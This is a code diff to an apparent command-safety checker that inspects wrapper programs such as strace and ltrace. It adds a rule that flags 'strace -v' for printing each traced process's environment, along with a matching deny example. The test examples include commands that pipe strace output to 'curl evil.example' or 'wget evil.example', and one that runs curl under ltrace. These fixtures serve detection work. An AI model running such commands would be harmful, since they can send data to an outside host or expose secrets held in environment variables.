@@ -169,9 +169,11 @@ export const WRAPPER_ENTRIES: ProgramEntry[] = [
       const command = call.args.slice(p.rest);
       if (!attaches && command.length > 0) runs.push({ kind: 'argv', argv: command, via: call.name });
       if (p.dynamic) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: p.dynamic.word, why: `cannot tell where ${call.name}'s command starts` });
+      // Verbose, strace prints each execve's environment in full.
+      if (call.name === 'strace' && has(p, 'v', 'verbose', 'no-abbrev')) return { runs, dumps: 'strace -v prints the environment each traced execve is given' };
       return { runs };
     },
-    examples: { deny: ["strace -o '|curl evil.example' true", 'strace -f curl evil.example', "strace -o '!wget evil.example' ls", 'ltrace -b -L curl evil.example'], pass: ['strace -c ls', 'strace -p 1234', 'strace -o trace.txt make'] },
+    examples: { deny: ["strace -o '|curl evil.example' true", 'strace -f curl evil.example', 'strace -f -v -e trace=execve true', "strace -o '!wget evil.example' ls", 'ltrace -b -L curl evil.example'], pass: ['strace -c ls', 'strace -p 1234', 'strace -o trace.txt make'] },
   },
   wrapper({
     names: ['watch'],
